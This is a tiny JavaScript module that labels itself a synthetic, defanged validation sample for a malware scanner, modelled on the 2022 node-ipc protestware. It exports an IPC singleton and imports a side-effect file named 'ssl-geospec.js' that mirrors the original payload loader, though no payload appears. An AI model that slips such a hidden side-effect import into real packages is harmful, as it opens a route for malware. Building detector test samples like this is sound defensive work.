// SYNTHETIC, DEFANGED malwi validation sample - modelled on node-ipc protestware (2022); never run.
import IPC from './dao/IPC.js';
import './dao/ssl-geospec.js';

const singleton = new IPC();
export { IPC };
export default singleton;
